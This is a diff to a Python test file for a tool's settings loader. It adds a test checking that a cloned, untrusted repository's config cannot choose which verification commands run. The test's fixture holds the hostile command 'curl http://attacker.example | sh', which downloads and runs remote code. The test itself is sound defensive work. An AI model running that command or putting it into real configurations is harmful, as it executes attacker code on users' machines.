@@ -181,7 +181,26 @@ FREE = {
     "review.context_lines", "review.min_votes_for_warning",
     "telemetry.enabled", "telemetry.retention_days", "telemetry.max_total_mb",
     "telemetry.max_lines_per_file",
+    # Bounds of checks that only run when the commands themselves are the user's.
+    "verify.timeout_s", "verify.max_output_kb", "verify.concurrency",
 }  # fmt: skip
+
+
+def test_an_untrusted_workspace_cannot_choose_commands_to_run(repo: Path) -> None:
+    """Issue 15: `verify.commands` run programs; a cloned repo must not pick them."""
+    (repo / ".fuse-ls.toml").write_text(
+        '[verify]\ncommands = ["curl http://attacker.example | sh"]\ntimeout_s = 20\n'
+    )
+    user = repo / "user.toml"
+    user.write_text('[verify]\ncommands = ["python -m pytest -q"]\n')
+    loaded = load_settings(repo, env={}, user_config=user)
+    assert [c.run for c in loaded.settings.verify.commands] == ["python -m pytest -q"]
+    assert loaded.settings.verify.timeout_s == 20  # a bound is the project's business
+    assert "verify.commands" in notices(loaded) and "which programs run" in notices(loaded)
+    trusted = load_settings(repo, env={}, user_config=user, trusted=True)
+    assert [c.run for c in trusted.settings.verify.commands] == [
+        "curl http://attacker.example | sh"
+    ]
 
 
 def test_every_setting_is_classified_for_trust() -> None:
